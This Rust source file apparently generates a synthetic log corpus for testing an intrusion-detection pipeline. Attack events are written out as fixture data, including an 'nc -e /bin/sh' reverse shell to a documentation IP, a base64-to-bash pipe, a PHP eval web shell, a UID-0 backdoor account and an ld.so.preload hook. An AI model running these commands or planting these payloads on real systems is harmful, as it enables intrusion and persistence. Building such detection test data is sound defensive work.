//! Deterministic generator of the mixed-event corpus (`tests/corpus/mixed.jsonl`):
//! six hosts of ordinary activity (logins, sudo, file changes, connections, DNS,
//! processes, heartbeats) with attacks woven in (brute force then success,
//! password spraying, distributed brute force, port scan, persistence, reverse
//! shell, mining pool and threat-intel traffic, DNS tunnelling, dropped events).
//!
//! The corpus is committed; the golden test checks that this generator still
//! produces it byte for byte, so the file and its generator cannot drift apart.

use shaobing_wire::v1::{
    AgentStatus, Direction, Event, FileEvent, FileOp, Host, LoginAction, LoginEvent, NetAction,
    NetworkEvent, Outcome, ProcessEvent, event::Body,
};

/// 2024-03-01T00:00:00Z.
pub const CORPUS_START_UNIX_NANO: i64 = 1_709_251_200 * 1_000_000_000;
const SECOND: i64 = 1_000_000_000;
const MS: i64 = 1_000_000;

const HOSTS: [&str; 6] = ["web-1", "web-2", "web-3", "db-1", "bastion", "build-1"];
const USERS: [&str; 5] = ["ops", "deploy", "alice", "bob", "backup"];

/// splitmix64: small, fast, and the same on every platform.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

struct Builder {
    events: Vec<Event>,
}

impl Builder {
    fn push(&mut self, at: i64, host: &str, source: &str, raw: String, body: Body) {
        let n = self.events.len();
        self.events.push(Event {
            event_id: format!("{host}-{n:05}"),
            time_unix_nano: CORPUS_START_UNIX_NANO + at,
            host: Some(Host {
                hostname: host.to_string(),
                agent_id: format!("agent-{host}"),
                ..Host::default()
            }),
            source: source.to_string(),
            raw,
            body: Some(body),
        });
    }

    #[allow(clippy::too_many_arguments)]
    fn login(
        &mut self,
        at: i64,
        host: &str,
        action: LoginAction,
        outcome: Outcome,
        user: &str,
        ip: &str,
        service: &str,
        raw: String,
    ) {
        let body = Body::Login(LoginEvent {
            action: action as i32,
            outcome: outcome as i32,
            user: user.to_string(),
            source_ip: ip.to_string(),
            source_port: if ip.is_empty() { 0 } else { 40_000 },
            auth_method: if action == LoginAction::SshAccept || action == LoginAction::SshFail {
                "password".to_string()
            } else {
                String::new()
            },
            service: service.to_string(),
            pid: 1000 + (at / SECOND % 30_000) as u32,
            ..LoginEvent::default()
        });
        self.push(at, host, "auth_log", raw, body);
    }

    fn ssh_fail(&mut self, at: i64, host: &str, user: &str, ip: &str) {
        let raw = format!(
            "sshd[{}]: Failed password for {user} from {ip} port 40000 ssh2",
            2000 + at / SECOND % 9000
        );
        self.login(
            at,
            host,
            LoginAction::SshFail,
            Outcome::Failure,
            user,
            ip,
            "sshd",
            raw,
        );
    }

    fn ssh_accept(&mut self, at: i64, host: &str, user: &str, ip: &str) {
        let raw = format!(
            "sshd[{}]: Accepted password for {user} from {ip} port 40000 ssh2",
            2000 + at / SECOND % 9000
        );
        self.login(
            at,
            host,
            LoginAction::SshAccept,
            Outcome::Success,
            user,
            ip,
            "sshd",
            raw,
        );
    }

    fn file(&mut self, at: i64, host: &str, op: FileOp, path: &str, content: &str, mode: u32) {
        let body = Body::File(FileEvent {
            op: op as i32,
            path: path.to_string(),
            size: 100 + path.len() as u64,
            mode,
            uid: 0,
            owner: "root".to_string(),
            hash_after: format!("{:016x}", path.len() as u64 * 7919 + at as u64 % 1000),
            watched_root: path.split('/').take(3).collect::<Vec<_>>().join("/"),
            content_sample: content.to_string(),
            ..FileEvent::default()
        });
        self.push(at, host, "inotify", String::new(), body);
    }

    #[allow(clippy::too_many_arguments)]
    fn connect(
        &mut self,
        at: i64,
        host: &str,
        direction: Direction,
        src: &str,
        dst: &str,
        port: u32,
        exe: &str,
    ) {
        let body = Body::Network(NetworkEvent {
            action: NetAction::Connect as i32,
            transport: "tcp".to_string(),
            src_ip: src.to_string(),
            src_port: 40_000 + (at / MS % 20_000) as u32,
            dst_ip: dst.to_string(),
            dst_port: port,
            direction: direction as i32,
            exe: exe.to_string(),
            ..NetworkEvent::default()
        });
        self.push(at, host, "packet", String::new(), body);
    }

    fn dns(&mut self, at: i64, host: &str, name: &str, answer: &str) {
        let body = Body::Network(NetworkEvent {
            action: NetAction::DnsQuery as i32,
            transport: "udp".to_string(),
            src_ip: "10.0.0.10".to_string(),
            dst_ip: "10.0.0.2".to_string(),
            dst_port: 53,
            direction: Direction::Outbound as i32,
            dns_query: name.to_string(),
            dns_type: "A".to_string(),
            dns_answers: vec![answer.to_string()],
            dns_rcode: "NOERROR".to_string(),
            ..NetworkEvent::default()
        });
        self.push(at, host, "packet", String::new(), body);
    }

    fn process(&mut self, at: i64, host: &str, exe: &str, cmdline: &str, parent: &str, user: &str) {
        let body = Body::Process(ProcessEvent {
            pid: 3000 + (at / MS % 50_000) as u32,
            ppid: 1,
            exe: exe.to_string(),
            cmdline: cmdline.to_string(),
            user: user.to_string(),
            uid: if user == "root" { 0 } else { 1000 },
            cwd: "/".to_string(),
            parent_exe: parent.to_string(),
        });
        self.push(at, host, "process", String::new(), body);
    }
}

/// Ordinary activity: one event per step, spread over the hosts.
fn background(b: &mut Builder, rng: &mut Rng, count: usize, span_secs: i64) {
    let step = span_secs * SECOND / count as i64;
    let benign_cmds: [(&str, &str); 6] = [
        ("/usr/bin/ls", "ls -la /var/log"),
        ("/usr/bin/python3", "python3 /srv/app/manage.py runjobs"),
        ("/usr/bin/git", "git pull --ff-only"),
        ("/usr/bin/tar", "tar czf /backup/etc.tgz /etc"),
        ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
        ("/usr/bin/curl", "curl -s https://api.example.com/health"),
    ];
    let domains = ["www.example.com", "api.example.com", "mirrors.example.org"];
    for n in 0..count {
        let at = n as i64 * step + rng.below(step as u64 / 2) as i64;
        let host = *rng.pick(&HOSTS);
        let user_index = rng.below(USERS.len() as u64);
        let user = USERS[user_index as usize];
        // Each user works from their own workstation.
        let workstation = format!("10.0.9.{}", 10 + user_index);
        let internal = format!("10.0.{}.{}", rng.below(4), 10 + rng.below(200));
        match rng.below(20) {
            0..=2 => b.ssh_accept(at, host, user, &workstation),
            // An occasional mistyped password.
            3 if rng.below(5) == 0 => b.ssh_fail(at, host, user, &workstation),
            3 => b.ssh_accept(at, host, user, &workstation),
            4 => {
                let raw = format!(
                    "sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
                );
                b.login(
                    at,
                    host,
                    LoginAction::Sudo,
                    Outcome::Success,
                    user,
                    "",
                    "sudo",
                    raw,
                );
            }
            5..=7 => {
                let path = format!("/home/{user}/work/notes-{}.txt", rng.below(50));
                b.file(at, host, FileOp::Modify, &path, "", 0o100644);
            }
            8 => {
                let path = format!("/var/log/app/app-{}.log", rng.below(5));
                b.file(at, host, FileOp::Create, &path, "", 0o100640);
            }
            9..=11 => {
                // The application talks to its database, cache and API servers.
                let (server, port) = *rng.pick(&[
                    ("10.0.1.5", 5432u32),
                    ("10.0.1.6", 6379),
                    ("10.0.1.7", 8080),
                ]);
                b.connect(
                    at,
                    host,
                    Direction::Outbound,
                    "10.0.0.10",
                    server,
                    port,
                    "/usr/bin/python3",
                );
            }
            12 => b.connect(
                at,
                host,
                Direction::Inbound,
                &internal,
                "10.0.0.10",
                443,
                "/usr/sbin/nginx",
            ),
            13..=14 => {
                let domain = *rng.pick(&domains);
                b.dns(at, host, domain, "93.184.216.34");
            }
            _ => {
                let (exe, cmd) = *rng.pick(&benign_cmds);
                b.process(at, host, exe, cmd, "/bin/bash", user);
            }
        }
    }
}

fn heartbeats(b: &mut Builder, span_secs: i64) {
    for minute in 0..span_secs / 60 {
        for (k, host) in HOSTS.iter().enumerate() {
            // db-1 reports dropped events after its spool filled (minute 40 on).
            let dropped = if *host == "db-1" && minute >= 40 {
                250
            } else {
                0
            };
            let body = Body::Status(AgentStatus {
                version: "0.1.0".to_string(),
                spool_depth: 3,
                spool_bytes: 4096,
                dropped_total: dropped,
                cpu_percent: 1.5,
                rss_bytes: 20 << 20,
                os: "Debian 12".to_string(),
                ..AgentStatus::default()
            });
            b.push(
                minute * 60 * SECOND + k as i64 * SECOND,
                host,
                "heartbeat",
                String::new(),
                body,
            );
        }
    }
}

fn attacks(b: &mut Builder, rng: &mut Rng) {
    // Brute force against web-1, then a root login from the same address.
    let t = 600 * SECOND;
    for n in 0..40 {
        b.ssh_fail(t + n * 2 * SECOND, "web-1", "root", "203.0.113.7");
    }
    b.ssh_accept(t + 85 * SECOND, "web-1", "root", "203.0.113.7");

    // Password spraying: one address, many users, on the bastion.
    let t = 1200 * SECOND;
    for n in 0..14 {
        let user = format!("user{n:02}");
        b.ssh_fail(t + n * 3 * SECOND, "bastion", &user, "198.51.100.23");
    }

    // Distributed brute force: many addresses against `admin` on web-3.
    let t = 1500 * SECOND;
    for n in 0..24 {
        let ip = format!("192.0.2.{}", 10 + n);
        b.ssh_fail(t + n * 4 * SECOND, "web-3", "admin", &ip);
    }

    // Inbound port scan against db-1.
    let t = 1800 * SECOND;
    for n in 0..30 {
        let port = 20 + n as u32 * 7;
        b.connect(
            t + n * 500 * MS,
            "db-1",
            Direction::Inbound,
            "192.0.2.200",
            "10.0.1.5",
            port,
            "",
        );
    }

    // Persistence on web-2.
    let t = 2100 * SECOND;
    b.login(
        t,
        "web-2",
        LoginAction::UserAdd,
        Outcome::Success,
        "",
        "",
        "useradd",
        "useradd[4100]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash"
            .to_string(),
    );
    let raw = "usermod[4101]: add 'backdoor' to group 'sudo'".to_string();
    let body = Body::Login(LoginEvent {
        action: LoginAction::UserMod as i32,
        outcome: Outcome::Success as i32,
        target_user: "backdoor".to_string(),
        group: "sudo".to_string(),
        service: "usermod".to_string(),
        pid: 4101,
        ..LoginEvent::default()
    });
    b.push(t + 2 * SECOND, "web-2", "auth_log", raw, body);
    b.file(
        t + 5 * SECOND,
        "web-2",
        FileOp::Modify,
        "/root/.ssh/authorized_keys",
        "",
        0o100600,
    );
    b.file(
        t + 8 * SECOND,
        "web-2",
        FileOp::Create,
        "/etc/cron.d/update",
        "* * * * * root /tmp/.x/update",
        0o100644,
    );
    b.file(
        t + 9 * SECOND,
        "web-2",
        FileOp::Create,
        "/etc/ld.so.preload",
        "/lib/libhide.so",
        0o100644,
    );
    b.file(
        t + 12 * SECOND,
        "web-2",
        FileOp::Create,
        "/var/www/html/upload/x.php",
        "<?php @eval($_POST['cmd']); ?>",
        0o100644,
    );
    b.file(
        t + 14 * SECOND,
        "web-2",
        FileOp::Modify,
        "/var/www/html/index.html",
        "<html>hacked</html>",
        0o100644,
    );
    b.file(
        t + 15 * SECOND,
        "web-2",
        FileOp::Attrib,
        "/etc/shadow",
        "",
        0o100666,
    );

    // Reverse shell from web-2.
    let t = 2400 * SECOND;
    b.process(
        t,
        "web-2",
        "/usr/bin/nc",
        "nc -e /bin/sh 198.51.100.9 4444",
        "/usr/sbin/apache2",
        "www-data",
    );
    b.connect(
        t + 100 * MS,
        "web-2",
        Direction::Outbound,
        "10.0.0.12",
        "198.51.100.9",
        4444,
        "/usr/bin/nc",
    );
    b.process(
        t + 5 * SECOND,
        "web-2",
        "/usr/bin/base64",
        "base64 -d /tmp/.x/p | bash",
        "/bin/sh",
        "www-data",
    );

    // Mining on build-1, and a connection to a threat-intel address.
    let t = 2700 * SECOND;
    b.dns(t, "build-1", "xmr.supportxmr.com", "198.51.100.70");
    b.connect(
        t + SECOND,
        "build-1",
        Direction::Outbound,
        "10.0.2.7",
        "198.51.100.70",
        3333,
        "/tmp/xmrig",
    );
    b.connect(
        t + 30 * SECOND,
        "build-1",
        Direction::Outbound,
        "10.0.2.7",
        "198.51.100.66",
        443,
        "/usr/bin/curl",
    );
    b.dns(t + 40 * SECOND, "build-1", "c2.example", "203.0.113.66");

    // DNS tunnelling from db-1: long random-looking labels.
    let t = 3000 * SECOND;
    for n in 0..6 {
        let label: String = (0..48)
            .map(|_| char::from(b"abcdefghijklmnopqrstuvwxyz0123456789"[rng.below(36) as usize]))
            .collect();
        b.dns(
            t + n * 10 * SECOND,
            "db-1",
            &format!("{label}.t.example.net"),
            "192.0.2.1",
        );
    }

    // Sudo failures on bastion.
    let t = 3300 * SECOND;
    for n in 0..3 {
        b.login(
            t + n * 5 * SECOND,
            "bastion",
            LoginAction::Sudo,
            Outcome::Failure,
            "bob",
            "",
            "sudo",
            "sudo: bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash".to_string(),
        );
    }
}

/// The corpus: about 5 000 events over one hour, in event-time order.
pub fn generate() -> Vec<Event> {
    let mut rng = Rng(0x5348_414f_4249_4e47);
    let mut b = Builder { events: Vec::new() };
    let span_secs = 3600;
    background(&mut b, &mut rng, 4200, span_secs);
    heartbeats(&mut b, span_secs);
    attacks(&mut b, &mut rng);
    let mut events = b.events;
    events.sort_by(|a, b| (a.time_unix_nano, &a.event_id).cmp(&(b.time_unix_nano, &b.event_id)));
    events
}
